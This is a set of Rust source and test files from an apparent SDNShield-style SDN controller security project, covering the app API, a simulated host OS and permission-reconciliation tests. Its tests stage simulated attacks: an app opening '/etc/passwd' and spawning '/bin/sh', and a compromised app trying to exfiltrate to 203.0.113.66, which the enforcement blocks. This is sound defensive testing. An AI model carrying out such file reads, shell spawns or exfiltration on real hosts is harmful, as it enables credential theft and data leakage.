                tx,
                inflight,
                timeout,
                fast,
            } => {
                if let Some(lane) = fast {
                    if let Some(result) = lane.try_serve(&call) {
                        return result;
                    }
                }
                let (reply_tx, reply_rx) = bounded(1);
                send_deputy(
                    tx,
                    inflight,
                    DeputyRequest::Call {
                        call,
                        reply: reply_tx,
                    },
                )?;
                await_reply(&reply_rx, *timeout)?
            }
            CallRoute::Direct { kernel, pending } => {
                let (result, events) = kernel.execute(&call);
                pending.lock().extend(events);
                result
            }
        }
    }

    /// Reads the topology view this app is allowed to see.
    ///
    /// # Errors
    ///
    /// [`ApiError::PermissionDenied`] without `visible_topology`.
    pub fn read_topology(&self) -> Result<TopologyView, ApiError> {
        match self.call(ApiCallKind::ReadTopology)? {
            ApiResponse::Topology(view) => Ok(view),
            other => unreachable!("topology call returned {other:?}"),
        }
    }

    /// Installs (or modifies) a flow rule.
    ///
    /// # Errors
    ///
    /// Permission denials and switch errors.
    pub fn insert_flow(&self, dpid: DatapathId, flow_mod: FlowMod) -> Result<(), ApiError> {
        self.call(ApiCallKind::InsertFlow { dpid, flow_mod })
            .map(|_| ())
    }

    /// Deletes flow rules.
    ///
    /// # Errors
    ///
    /// Permission denials and switch errors.
    pub fn delete_flow(&self, dpid: DatapathId, flow_mod: FlowMod) -> Result<(), ApiError> {
        self.call(ApiCallKind::DeleteFlow { dpid, flow_mod })
            .map(|_| ())
    }

    /// Reads flow entries subsumed by `query` (visibility-filtered).
    ///
    /// # Errors
    ///
    /// Permission denials and switch errors.
    pub fn read_flow_table(
        &self,
        dpid: DatapathId,
        query: FlowMatch,
    ) -> Result<Vec<FlowStats>, ApiError> {
        match self.call(ApiCallKind::ReadFlowTable { dpid, query })? {
            ApiResponse::FlowEntries(entries) => Ok(entries),
            other => unreachable!("flow read returned {other:?}"),
        }
    }

    /// Requests statistics.
    ///
    /// # Errors
    ///
    /// Permission denials (including statistics-level filters) and switch
    /// errors.
    pub fn read_statistics(
        &self,
        dpid: DatapathId,
        request: StatsRequest,
    ) -> Result<StatsReply, ApiError> {
        match self.call(ApiCallKind::ReadStatistics { dpid, request })? {
            ApiResponse::Stats(reply) => Ok(reply),
            other => unreachable!("stats call returned {other:?}"),
        }
    }

    /// Sends a packet-out.
    ///
    /// # Errors
    ///
    /// Permission denials (e.g. `FROM_PKT_IN` provenance) and switch errors.
    pub fn send_packet_out(&self, dpid: DatapathId, packet_out: PacketOut) -> Result<(), ApiError> {
        self.call(ApiCallKind::SendPacketOut { dpid, packet_out })
            .map(|_| ())
    }

    /// Sends a group of packet-outs in one app→KSD channel crossing — the
    /// vectored counterpart of a [`AppCtx::send_packet_out`] loop, built
    /// for batched event handlers ([`App::on_events`]) that release a whole
    /// burst of packets at once. Best-effort: each packet-out is checked
    /// and applied independently, exactly as the singleton loop would, and
    /// the count actually sent is returned.
    ///
    /// # Errors
    ///
    /// [`ApiError::Shutdown`] / [`ApiError::Timeout`] on channel failures;
    /// a missing `send_pkt_out` token denies the whole group. Per-packet
    /// denials and switch errors only reduce the returned count.
    pub fn send_packet_outs(&self, outs: Vec<(DatapathId, PacketOut)>) -> Result<usize, ApiError> {
        match &self.route {
            CallRoute::Deputy {
                tx,
                inflight,
                timeout,
                ..
            } => {
                let (reply_tx, reply_rx) = bounded(1);
                send_deputy(
                    tx,
                    inflight,
                    DeputyRequest::PacketOuts {
                        app: self.app,
                        outs,
                        reply: reply_tx,
                    },
                )?;
                await_reply(&reply_rx, *timeout)?
            }
            CallRoute::Direct { kernel, pending } => {
                let (result, events) = kernel.execute_packet_outs(self.app, &outs);
                pending.lock().extend(events);
                result
            }
        }
    }

    /// Convenience: packet-out of a raw frame through one port.
    ///
    /// # Errors
    ///
    /// As [`AppCtx::send_packet_out`].
    pub fn packet_out_port(
        &self,
        dpid: DatapathId,
        port: PortNo,
        payload: Bytes,
    ) -> Result<(), ApiError> {
        self.send_packet_out(
            dpid,
            PacketOut {
                buffer_id: BufferId::NO_BUFFER,
                in_port: PortNo::NONE,
                actions: sdnshield_openflow::actions::ActionList::output(port),
                payload,
            },
        )
    }

    /// Subscribes to an event stream.
    ///
    /// # Errors
    ///
    /// [`ApiError::PermissionDenied`] without the event token.
    pub fn subscribe(&self, kind: EventKind) -> Result<(), ApiError> {
        self.call(ApiCallKind::Subscribe { kind }).map(|_| ())
    }

    /// Subscribes to a custom app-published topic (ALTO-style services).
    ///
    /// # Errors
    ///
    /// [`ApiError::Shutdown`] when the controller is stopping.
    pub fn subscribe_topic(&self, topic: &str) -> Result<(), ApiError> {
        match &self.route {
            CallRoute::Deputy {
                tx,
                inflight,
                timeout,
                ..
            } => {
                let (reply_tx, reply_rx) = bounded(1);
                send_deputy(
                    tx,
                    inflight,
                    DeputyRequest::SubscribeTopic {
                        app: self.app,
                        topic: topic.to_owned(),
                        reply: reply_tx,
                    },
                )?;
                await_reply(&reply_rx, *timeout)??;
                Ok(())
            }
            CallRoute::Direct { kernel, .. } => {
                kernel.subscribe_topic(self.app, topic);
                Ok(())
            }
        }
    }

    /// Publishes a custom event to topic subscribers (service apps).
    ///
    /// # Errors
    ///
    /// [`ApiError::Shutdown`] when the controller is stopping.
    pub fn publish(&self, topic: &str, data: Bytes) -> Result<(), ApiError> {
        let event = Event::Custom {
            topic: topic.to_owned(),
            data,
        };
        match &self.route {
            CallRoute::Deputy {
                tx,
                inflight,
                timeout,
                ..
            } => {
                let (reply_tx, reply_rx) = bounded(1);
                send_deputy(
                    tx,
                    inflight,
                    DeputyRequest::Publish {
                        event,
                        reply: reply_tx,
                    },
                )?;
                await_reply(&reply_rx, *timeout)??;
                Ok(())
            }
            CallRoute::Direct { pending, .. } => {
                pending.lock().push_back(OutboundEvent { event });
                Ok(())
            }
        }
    }

    /// Issues an atomic flow transaction (paper §VI-B2).
    ///
    /// # Errors
    ///
    /// [`ApiError::TransactionAborted`] naming the first offending
    /// operation; nothing is applied in that case.
    pub fn transaction(&self, ops: Vec<FlowOp>) -> Result<(), ApiError> {
        match &self.route {
            CallRoute::Deputy {
                tx,
                inflight,
                timeout,
                ..
            } => {
                let (reply_tx, reply_rx) = bounded(1);
                send_deputy(
                    tx,
                    inflight,
                    DeputyRequest::Transaction {
                        app: self.app,
                        ops,
                        reply: reply_tx,
                    },
                )?;
                await_reply(&reply_rx, *timeout)??;
                Ok(())
            }
            CallRoute::Direct { kernel, pending } => {
                let (result, events) = kernel.execute_transaction(self.app, &ops);
                pending.lock().extend(events);
                result.map(|_| ())
            }
        }
    }

    /// Submits a batch of flow operations in a single app→KSD channel
    /// crossing, checked under one engine snapshot and applied atomically
    /// (the transaction rollback machinery backs it). Returns the number of
    /// operations applied.
    ///
    /// Prefer this over a loop of [`AppCtx::insert_flow`] for bulk rule
    /// pushes: it pays the channel crossing, engine fetch, tracker read
    /// guard, and audit record once per batch instead of once per op.
    ///
    /// # Errors
    ///
    /// [`ApiError::TransactionAborted`] naming the first offending
    /// operation; nothing is applied in that case.
    pub fn submit_batch(&self, ops: Vec<FlowOp>) -> Result<usize, ApiError> {
        let n = ops.len();
        match &self.route {
            CallRoute::Deputy {
                tx,
                inflight,
                timeout,
                ..
            } => {
                let (reply_tx, reply_rx) = bounded(1);
                send_deputy(
                    tx,
                    inflight,
                    DeputyRequest::Batch {
                        app: self.app,
                        ops,
                        reply: reply_tx,
                    },
                )?;
                await_reply(&reply_rx, *timeout)??;
                Ok(n)
            }
            CallRoute::Direct { kernel, pending } => {
                let (result, events) = kernel.execute_batch(self.app, &ops);
                pending.lock().extend(events);
                result.map(|_| n)
            }
        }
    }

    /// Opens a connection from the controller host (Class-2 channel).
    ///
    /// # Errors
    ///
    /// [`ApiError::PermissionDenied`] without `host_network` (or outside
    /// its destination filter).
    pub fn host_connect(&self, dst_ip: Ipv4, dst_port: u16) -> Result<ConnId, ApiError> {
        match self.call(ApiCallKind::HostConnect { dst_ip, dst_port })? {
            ApiResponse::Connection(id) => Ok(id),
            other => unreachable!("connect returned {other:?}"),
        }
    }

    /// Sends data on an established host connection.
    ///
    /// # Errors
    ///
    /// Permission denials (destination re-validated) and unknown handles.
    pub fn host_send(&self, conn: ConnId, data: Bytes) -> Result<(), ApiError> {
        match &self.route {
            CallRoute::Deputy {
                tx,
                inflight,
                timeout,
                ..
            } => {
                let (reply_tx, reply_rx) = bounded(1);
                send_deputy(
                    tx,
                    inflight,
                    DeputyRequest::HostSend {
                        app: self.app,
                        conn,
                        data,
                        reply: reply_tx,
                    },
                )?;
                await_reply(&reply_rx, *timeout)??;
                Ok(())
            }
            CallRoute::Direct { kernel, .. } => kernel.host_send(self.app, conn, data),
        }
    }

    /// Opens a file on the controller host.
    ///
    /// # Errors
    ///
    /// [`ApiError::PermissionDenied`] without `file_system`.
    pub fn open_file(&self, path: &str, write: bool) -> Result<(), ApiError> {
        self.call(ApiCallKind::FileOpen {
            path: path.to_owned(),
            write,
        })
        .map(|_| ())
    }

    /// Spawns a process on the controller host.
    ///
    /// # Errors
    ///
    /// [`ApiError::PermissionDenied`] without `process_runtime`.
    pub fn exec(&self, program: &str) -> Result<(), ApiError> {
        self.call(ApiCallKind::ProcessExec {
            program: program.to_owned(),
        })
        .map(|_| ())
    }
}
