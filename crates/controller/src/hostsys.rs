//! The simulated host operating system.
//!
//! The paper's Class-2 attacks exfiltrate information through the controller
//! host's network stack, and its isolation architecture mediates every
//! system call through the reference monitor (Java `SecurityManager` in the
//! prototype). This module is the Rust substitute (DESIGN.md §2): a facade
//! recording outbound connections, file accesses and process spawns so tests
//! can observe exactly what an app managed to do to the host.

use std::collections::BTreeMap;
use std::fmt;

use bytes::Bytes;
use sdnshield_core::api::AppId;
use sdnshield_openflow::types::Ipv4;

/// A handle to an open simulated connection.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct ConnId(pub u64);

impl fmt::Display for ConnId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "conn:{}", self.0)
    }
}

/// One outbound connection made by an app.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Connection {
    /// The handle.
    pub id: ConnId,
    /// The app that opened it.
    pub app: AppId,
    /// Remote address.
    pub dst_ip: Ipv4,
    /// Remote port.
    pub dst_port: u16,
    /// Everything the app sent.
    pub sent: Vec<Bytes>,
    /// Whether the connection has been closed (e.g. its owner crashed).
    pub closed: bool,
}

/// One file access.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FileAccess {
    /// The app.
    pub app: AppId,
    /// The path.
    pub path: String,
    /// Open-for-write?
    pub write: bool,
}

/// One spawned process.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SpawnedProcess {
    /// The app.
    pub app: AppId,
    /// The program.
    pub program: String,
}

/// The simulated host OS state. All mutations go through the kernel deputy
/// *after* permission checking — an app holding no `host_network` permission
/// can never cause a [`Connection`] to appear here, which is exactly what
/// the exfiltration tests assert.
#[derive(Debug, Default)]
pub struct HostSystem {
    connections: BTreeMap<ConnId, Connection>,
    files: Vec<FileAccess>,
    processes: Vec<SpawnedProcess>,
    next_conn: u64,
}

impl HostSystem {
    /// An empty host.
    pub fn new() -> Self {
        Self::default()
    }

    /// Opens a connection on behalf of an app.
    pub fn connect(&mut self, app: AppId, dst_ip: Ipv4, dst_port: u16) -> ConnId {
        self.next_conn += 1;
        let id = ConnId(self.next_conn);
        self.connections.insert(
            id,
            Connection {
                id,
                app,
                dst_ip,
                dst_port,
                sent: Vec::new(),
                closed: false,
            },
        );
        id
    }

    /// Sends bytes on a connection. Returns `false` for unknown or closed
    /// handles, or handles owned by a different app.
    pub fn send(&mut self, app: AppId, conn: ConnId, data: Bytes) -> bool {
        match self.connections.get_mut(&conn) {
            Some(c) if c.app == app && !c.closed => {
                c.sent.push(data);
                true
            }
            _ => false,
        }
    }

    /// Closes every open connection held by an app (crash reaping). The
    /// records stay for forensics; further sends on them fail. Returns how
    /// many were open.
    pub fn close_connections(&mut self, app: AppId) -> usize {
        let mut closed = 0;
        for c in self.connections.values_mut() {
            if c.app == app && !c.closed {
                c.closed = true;
                closed += 1;
            }
        }
        closed
    }

    /// Records a file access.
    pub fn open_file(&mut self, app: AppId, path: String, write: bool) {
        self.files.push(FileAccess { app, path, write });
    }

    /// Records a process spawn.
    pub fn exec(&mut self, app: AppId, program: String) {
        self.processes.push(SpawnedProcess { app, program });
    }

    /// All connections (for forensic inspection in tests).
    pub fn connections(&self) -> impl Iterator<Item = &Connection> {
        self.connections.values()
    }

    /// Connections opened by one app.
    pub fn connections_by(&self, app: AppId) -> impl Iterator<Item = &Connection> {
        self.connections.values().filter(move |c| c.app == app)
    }

    /// Total bytes sent by an app over all connections — the quantity an
    /// exfiltration attack tries to make nonzero.
    pub fn bytes_exfiltrated_by(&self, app: AppId) -> usize {
        self.connections_by(app)
            .flat_map(|c| c.sent.iter())
            .map(Bytes::len)
            .sum()
    }

    /// File accesses.
    pub fn files(&self) -> &[FileAccess] {
        &self.files
    }

    /// Spawned processes.
    pub fn processes(&self) -> &[SpawnedProcess] {
        &self.processes
    }

    /// Serializable image of the whole host state.
    pub fn snapshot(&self) -> HostSnapshot {
        HostSnapshot {
            connections: self.connections.values().cloned().collect(),
            files: self.files.clone(),
            processes: self.processes.clone(),
            next_conn: self.next_conn,
        }
    }

    /// Rebuilds a host from a snapshot (restore-exact, handle counter
    /// included so recovered kernels allocate the same future `ConnId`s).
    pub fn restore(snapshot: &HostSnapshot) -> Self {
        HostSystem {
            connections: snapshot
                .connections
                .iter()
                .map(|c| (c.id, c.clone()))
                .collect(),
            files: snapshot.files.clone(),
            processes: snapshot.processes.clone(),
            next_conn: snapshot.next_conn,
        }
    }
}

/// A serializable image of [`HostSystem`] (part of
/// [`crate::command::KernelSnapshot`]).
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct HostSnapshot {
    /// All connections ever opened, ascending [`ConnId`].
    pub connections: Vec<Connection>,
    /// File accesses in record order.
    pub files: Vec<FileAccess>,
    /// Process spawns in record order.
    pub processes: Vec<SpawnedProcess>,
    /// The connection-handle counter.
    pub next_conn: u64,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn connect_send_and_account() {
        let mut host = HostSystem::new();
        let c1 = host.connect(AppId(1), Ipv4::new(10, 1, 0, 1), 443);
        let c2 = host.connect(AppId(2), Ipv4::new(8, 8, 8, 8), 80);
        assert_ne!(c1, c2);
        assert!(host.send(AppId(1), c1, Bytes::from_static(b"hello")));
        assert!(host.send(AppId(1), c1, Bytes::from_static(b"world")));
        assert_eq!(host.bytes_exfiltrated_by(AppId(1)), 10);
        assert_eq!(host.bytes_exfiltrated_by(AppId(2)), 0);
        assert_eq!(host.connections_by(AppId(1)).count(), 1);
    }

    #[test]
    fn cross_app_send_rejected() {
        let mut host = HostSystem::new();
        let c1 = host.connect(AppId(1), Ipv4::new(10, 1, 0, 1), 443);
        assert!(!host.send(AppId(2), c1, Bytes::from_static(b"steal")));
        assert!(!host.send(AppId(1), ConnId(999), Bytes::new()));
        assert_eq!(host.bytes_exfiltrated_by(AppId(1)), 0);
    }

    #[test]
    fn closed_connections_reject_sends_but_keep_history() {
        let mut host = HostSystem::new();
        let c1 = host.connect(AppId(1), Ipv4::new(10, 1, 0, 1), 443);
        assert!(host.send(AppId(1), c1, Bytes::from_static(b"pre")));
        assert_eq!(host.close_connections(AppId(1)), 1);
        assert!(!host.send(AppId(1), c1, Bytes::from_static(b"post")));
        // Forensic record survives: what was sent before the close.
        assert_eq!(host.bytes_exfiltrated_by(AppId(1)), 3);
        // Idempotent: nothing left open.
        assert_eq!(host.close_connections(AppId(1)), 0);
    }

    #[test]
    fn files_and_processes_recorded() {
        let mut host = HostSystem::new();
        host.open_file(AppId(3), "/etc/passwd".into(), false);
        host.exec(AppId(3), "/bin/sh".into());
        assert_eq!(host.files().len(), 1);
        assert!(!host.files()[0].write);
        assert_eq!(host.processes()[0].program, "/bin/sh");
    }
}
