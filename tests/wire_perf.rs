//! Tier-2 perf regression guard for the southbound wire path (run with
//! `cargo test --release --test wire_perf -- --ignored`).
//!
//! The wire path adds real sockets, framing, and a reactor sweep on top of
//! the in-process fast lane that Fig. 7 measures. That overhead must stay
//! bounded: on a multi-core host the wire throughput (responses/sec over
//! loopback TCP) must be within 3x of the in-process fast-lane rate
//! measured in the same process. Hosts with fewer than 4 cores skip — the
//! client workers, reactor, deputies and app threads contend for the same
//! core there and the ratio measures the scheduler, not the wire path.

use std::sync::Arc;
use std::time::{Duration, Instant};

use sdnshield::apps::{L2LearningSwitch, L2_MANIFEST};
use sdnshield::controller::southbound::SouthboundConfig;
use sdnshield::controller::ShieldedController;
use sdnshield::core::parse_manifest;
use sdnshield::netsim::network::Network;
use sdnshield::netsim::topology::builders;
use sdnshield::netsim::trafficgen::{PacketKind, TrafficGen};
use sdnshield::wirebench::{run_throughput_mode, serve_l2};

const SWITCHES: usize = 4;
const DEPUTIES: usize = 2;
const CHUNK: usize = 512;
const INPROC_BATCH: usize = 40_000;

/// In-process fast-lane rate: packet-ins fully mediated per second when
/// delivered as vectored batches with no wire in between (the Fig. 7
/// fast-lane shape).
fn inproc_rate() -> f64 {
    let network = Network::new(builders::linear(SWITCHES), 65_536);
    let controller = Arc::new(ShieldedController::new(network, DEPUTIES));
    controller.kernel().set_absorb_packet_outs(true);
    controller
        .register(
            Box::new(L2LearningSwitch::new()),
            &parse_manifest(L2_MANIFEST).unwrap(),
        )
        .unwrap();
    let mut gen = TrafficGen::new(SWITCHES as u64, 16, PacketKind::Arp, 7);

    // Warmup.
    let warm: Vec<_> = (0..2_000).map(|_| gen.next_packet_in()).collect();
    controller.deliver_packet_in_batch(warm);
    controller.quiesce();

    let mut pending: Vec<_> = (0..INPROC_BATCH).map(|_| gen.next_packet_in()).collect();
    let t0 = Instant::now();
    while !pending.is_empty() {
        let rest = pending.split_off(pending.len().min(CHUNK));
        controller.deliver_packet_in_batch(pending);
        pending = rest;
    }
    controller.quiesce();
    let rate = INPROC_BATCH as f64 / t0.elapsed().as_secs_f64();
    controller.shutdown();
    rate
}

#[test]
#[ignore = "tier-2 perf guard; run explicitly in release"]
fn wire_throughput_within_3x_of_inprocess_fast_lane() {
    let cores = std::thread::available_parallelism().map_or(1, usize::from);
    if cores < 4 {
        eprintln!("skipping: host has {cores} cores (<4); ratio would measure the scheduler");
        return;
    }

    let inproc = inproc_rate();

    let (controller, handle) = serve_l2(
        "127.0.0.1:0",
        SWITCHES,
        DEPUTIES,
        SouthboundConfig::default(),
    )
    .unwrap();
    let wire =
        run_throughput_mode(handle.local_addr(), SWITCHES, 64, Duration::from_secs(3), 7).unwrap();
    handle.shutdown();
    controller.shutdown();

    eprintln!(
        "in-process fast lane: {:.0} resp/s; wire: {:.0} resp/s ({}x slower)",
        inproc,
        wire.resp_per_sec,
        inproc / wire.resp_per_sec
    );
    assert!(wire.responses > 0, "wire run produced no responses");
    assert!(
        wire.resp_per_sec * 3.0 >= inproc,
        "wire path more than 3x slower than in-process fast lane: \
         {:.0} resp/s vs {inproc:.0} resp/s",
        wire.resp_per_sec
    );
}
