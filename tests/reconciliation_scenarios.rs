//! Reconciliation effectiveness (paper §V, §VII, §IX-B1): over-privileged
//! manifests are caught and cut down by security policies, and the
//! reconciled permissions then hold up under enforcement.

use sdnshield::apps::monitoring::{
    MonitoringApp, WebCommand, WebRequest, MONITORING_MANIFEST, MONITORING_POLICY,
};
use sdnshield::controller::ShieldedController;
use sdnshield::core::algebra;
use sdnshield::core::reconcile::Resolution;
use sdnshield::core::{parse_filter, parse_manifest, parse_policy, PermissionToken, Reconciler};
use sdnshield::netsim::network::Network;
use sdnshield::netsim::topology::builders;
use sdnshield::openflow::flow_match::MaskedIpv4;
use sdnshield::openflow::types::{DatapathId, Ipv4, PortNo};

/// §VII scenario 1, end to end: developer manifest + administrator policy →
/// reconciliation → the paper's exact final permission set → runtime
/// enforcement against a compromised app.
#[test]
fn scenario1_full_pipeline() {
    // Reconcile.
    let mut rec = Reconciler::new(parse_policy(MONITORING_POLICY).unwrap());
    rec.register_app("monitoring", parse_manifest(MONITORING_MANIFEST).unwrap());
    let report = rec.reconcile("monitoring").unwrap();

    // The paper's outcome: one mutual-exclusion violation, insert_flow gone,
    // stubs expanded to the admin-supplied values.
    assert_eq!(report.violations.len(), 1);
    assert!(matches!(
        &report.violations[0].resolution,
        Resolution::Truncated(ts) if ts == &[PermissionToken::InsertFlow]
    ));
    assert_eq!(report.reconciled.len(), 3);
    assert!(report
        .reconciled
        .contains_token(PermissionToken::VisibleTopology));
    assert!(report
        .reconciled
        .contains_token(PermissionToken::ReadStatistics));
    assert!(report
        .reconciled
        .contains_token(PermissionToken::HostNetwork));
    assert!(!report
        .reconciled
        .contains_token(PermissionToken::InsertFlow));
    let net_filter = report
        .reconciled
        .filter(PermissionToken::HostNetwork)
        .unwrap();
    assert!(algebra::equivalent(
        net_filter,
        &parse_filter("IP_DST 10.1.0.0 MASK 255.255.0.0").unwrap()
    ));

    // Enforce: attacker drives the compromised app from an admin-spoofed IP.
    let c = ShieldedController::new(Network::new(builders::linear(2), 1024), 4);
    let (app, web) = MonitoringApp::new(MaskedIpv4::prefix(Ipv4::new(10, 1, 0, 0), 16));
    let app_id = c.register(Box::new(app), &report.reconciled).unwrap();
    let spoofed_admin = Ipv4::new(10, 1, 0, 200);
    for command in [
        // Class 2 to an outside collector: blocked by the AdminRange filter.
        WebCommand::Exfiltrate {
            to: Ipv4::new(203, 0, 113, 66),
            port: 443,
        },
        // Class 1: blocked, send_pkt_out was never granted.
        WebCommand::InjectPacket {
            dpid: DatapathId(1),
            port: PortNo(1),
            payload: bytes::Bytes::from_static(b"\x00"),
        },
        // Class 3: blocked, insert_flow was truncated at reconciliation.
        WebCommand::AddRule {
            dpid: DatapathId(1),
            dst: Ipv4::new(10, 0, 0, 2),
            port: PortNo(1),
        },
        // Normal duty still works: report to the real admin collector.
        WebCommand::ReportStats {
            to: Ipv4::new(10, 1, 0, 9),
            port: 4000,
        },
    ] {
        web.requests
            .send(WebRequest {
                source_ip: spoofed_admin,
                command,
            })
            .unwrap();
    }
    c.publish_topic("web", bytes::Bytes::new());
    c.quiesce();

    let outcomes = web.outcomes.lock().clone();
    assert_eq!(outcomes.len(), 4);
    assert!(!outcomes[0].succeeded, "exfiltrate blocked: {outcomes:?}");
    assert!(!outcomes[1].succeeded, "inject blocked");
    assert!(!outcomes[2].succeeded, "add_rule blocked");
    assert!(outcomes[3].succeeded, "legitimate reporting works");
    // Nothing reached the attacker; the admin report did leave.
    let conns = c.kernel().connections_by(app_id);
    assert!(conns
        .iter()
        .all(|conn| { MaskedIpv4::prefix(Ipv4::new(10, 1, 0, 0), 16).matches(conn.dst_ip) }));
    assert_eq!(c.kernel().flow_count(DatapathId(1)), 0);
    c.shutdown();
}

/// §V-A's monitoring-template boundary: an over-privileged manifest is
/// intersected down to the template.
#[test]
fn boundary_template_cuts_over_privilege() {
    let policy = parse_policy(
        "LET templatePerm = {\n\
           PERM read_topology\n\
           PERM read_statistics LIMITING PORT_LEVEL\n\
           PERM network_access LIMITING IP_DST 192.168.0.0 MASK 255.255.0.0\n\
         }\n\
         ASSERT APP app <= templatePerm",
    )
    .unwrap();
    let over_privileged = parse_manifest(
        "PERM read_topology\n\
         PERM read_statistics\n\
         PERM network_access\n\
         PERM insert_flow\n\
         PERM send_pkt_out",
    )
    .unwrap();
    let mut rec = Reconciler::new(policy);
    rec.register_app("grabby", over_privileged);
    let report = rec.reconcile("grabby").unwrap();
    assert!(!report.is_clean());
    // Everything outside the template vanished…
    assert!(!report
        .reconciled
        .contains_token(PermissionToken::InsertFlow));
    assert!(!report
        .reconciled
        .contains_token(PermissionToken::SendPktOut));
    // …and what remains is within it.
    let template = parse_manifest(
        "PERM read_topology\n\
         PERM read_statistics LIMITING PORT_LEVEL\n\
         PERM network_access LIMITING IP_DST 192.168.0.0 MASK 255.255.0.0",
    )
    .unwrap();
    assert!(template.includes(&report.reconciled));
    // A second pass is clean: the constraint holds persistently.
    let mut rec2 = Reconciler::new(
        parse_policy(
            "LET templatePerm = {\n\
           PERM read_topology\n\
           PERM read_statistics LIMITING PORT_LEVEL\n\
           PERM network_access LIMITING IP_DST 192.168.0.0 MASK 255.255.0.0\n\
         }\n\
         ASSERT APP app <= templatePerm",
        )
        .unwrap(),
    );
    rec2.register_app("grabby", report.reconciled);
    assert!(rec2.reconcile("grabby").unwrap().is_clean());
}

/// The paper's attack-pattern templates: each class maps to a policy that a
/// manifest enabling the attack violates.
#[test]
fn attack_pattern_policies_flag_risky_manifests() {
    // Class 1 pattern: pkt-in/out + host network enables remote-controlled
    // traffic injection.
    let class1_policy =
        parse_policy("ASSERT EITHER { PERM network_access } OR { PERM send_pkt_out }").unwrap();
    let risky = parse_manifest("PERM network_access\nPERM send_pkt_out").unwrap();
    let mut rec = Reconciler::new(class1_policy);
    rec.register_app("risky", risky);
    let report = rec.reconcile("risky").unwrap();
    assert!(!report.is_clean());
    assert!(
        !(report
            .reconciled
            .contains_token(PermissionToken::HostNetwork)
            && report
                .reconciled
                .contains_token(PermissionToken::SendPktOut)),
        "the dangerous combination must not survive"
    );

    // Class 3/4 pattern: arbitrary rule modification + deletion.
    let class3_policy = parse_policy(
        "LET routerBound = { PERM insert_flow LIMITING ACTION FORWARD AND OWN_FLOWS\n\
                             PERM visible_topology\n\
                             PERM pkt_in_event\n\
                             PERM read_payload\n\
                             PERM send_pkt_out\n\
                             PERM flow_event }\n\
         ASSERT APP app <= routerBound",
    )
    .unwrap();
    let tunnel_capable =
        parse_manifest("PERM insert_flow\nPERM visible_topology\nPERM pkt_in_event").unwrap();
    let mut rec = Reconciler::new(class3_policy);
    rec.register_app("router", tunnel_capable);
    let report = rec.reconcile("router").unwrap();
    assert!(!report.is_clean());
    // insert_flow survives but only within the forwarding/own-flows bound.
    let f = report
        .reconciled
        .filter(PermissionToken::InsertFlow)
        .unwrap();
    let bound = parse_filter("ACTION FORWARD AND OWN_FLOWS").unwrap();
    assert!(algebra::includes(&bound, f));
}

/// The inherent limitation the paper concedes: a forwarding app essentially
/// requires the resources that enable forwarding-rule attacks.
#[test]
fn forwarding_apps_keep_their_inherent_capability() {
    let policy = parse_policy(
        "LET routerBound = { PERM insert_flow LIMITING ACTION FORWARD AND OWN_FLOWS }\n\
         ASSERT APP app <= routerBound",
    )
    .unwrap();
    let honest_router =
        parse_manifest("PERM insert_flow LIMITING ACTION FORWARD AND OWN_FLOWS").unwrap();
    let mut rec = Reconciler::new(policy);
    rec.register_app("router", honest_router.clone());
    let report = rec.reconcile("router").unwrap();
    assert!(report.is_clean());
    assert_eq!(report.reconciled, honest_router);
}

/// Reconciliation reports every violation; administrators see the alert
/// trail (paper: "by default SDNShield alerts administrators of any
/// security policy violations").
#[test]
fn violations_are_fully_reported() {
    let policy = parse_policy(
        "LET bound = { PERM read_statistics }\n\
         ASSERT EITHER { PERM network_access } OR { PERM send_pkt_out }\n\
         ASSERT APP app <= bound",
    )
    .unwrap();
    let manifest = parse_manifest(
        "PERM network_access LIMITING MissingStub\nPERM send_pkt_out\nPERM read_statistics",
    )
    .unwrap();
    let mut rec = Reconciler::new(policy);
    rec.register_app("noisy", manifest);
    let report = rec.reconcile("noisy").unwrap();
    // Three violations: the unexpanded stub, the mutual exclusion, the
    // boundary.
    assert_eq!(report.violations.len(), 3, "{:#?}", report.violations);
    assert!(report
        .violations
        .iter()
        .any(|v| matches!(&v.resolution, Resolution::UnexpandedStub(s) if s == "MissingStub")));
    assert!(report
        .violations
        .iter()
        .any(|v| matches!(&v.resolution, Resolution::Truncated(_))));
    assert!(report
        .violations
        .iter()
        .any(|v| matches!(&v.resolution, Resolution::IntersectedWithBoundary)));
    // The final manifest satisfies everything.
    assert_eq!(
        report.reconciled.tokens().collect::<Vec<_>>(),
        vec![PermissionToken::ReadStatistics]
    );
}
