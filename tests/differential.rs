//! Differential testing: the same apps fed the same stimuli must leave the
//! network in the same state on the monolithic baseline and on SDNShield
//! (when permissions allow everything) — the paper's compatibility claim
//! that legacy apps run unmodified under the isolation architecture.

use std::collections::BTreeSet;

use sdnshield::apps::l2_learning::{L2LearningSwitch, L2_MANIFEST};
use sdnshield::apps::routing::{RoutingApp, ROUTING_MANIFEST};
use sdnshield::controller::{Kernel, MonolithicController, ShieldedController};
use sdnshield::core::parse_manifest;
use sdnshield::netsim::network::Network;
use sdnshield::netsim::topology::builders;
use sdnshield::openflow::packet::{ArpOp, ArpPacket, EthPayload, EthernetFrame, TcpFlags};
use sdnshield::openflow::types::{DatapathId, EthAddr, Ipv4};

/// A canonical, cookie-free view of every flow table (cookies differ by
/// design: SDNShield stamps app ownership into them).
fn table_fingerprint(kernel: &Kernel, switches: u64) -> BTreeSet<String> {
    let mut out = BTreeSet::new();
    kernel.with_network(|n| {
        for d in 1..=switches {
            if let Some(sw) = n.switch(DatapathId(d)) {
                for e in sw.table().iter() {
                    out.insert(format!(
                        "s{d} {} {} {}",
                        e.flow_match, e.priority, e.actions
                    ));
                }
            }
        }
    });
    out
}

fn arp_reply(src: u64, dst: u64) -> EthernetFrame {
    EthernetFrame {
        src: EthAddr::from_u64(src),
        dst: EthAddr::from_u64(dst),
        vlan: None,
        payload: EthPayload::Arp(ArpPacket {
            op: ArpOp::Reply,
            sender_mac: EthAddr::from_u64(src),
            sender_ip: Ipv4::new(10, 0, 0, src as u8),
            target_mac: EthAddr::from_u64(dst),
            target_ip: Ipv4::new(10, 0, 0, dst as u8),
        }),
    }
}

fn stimuli() -> Vec<EthernetFrame> {
    let mut frames = Vec::new();
    // ARP sweep teaching every host location…
    for src in 1..=3u64 {
        frames.push(EthernetFrame::arp_request(
            EthAddr::from_u64(src),
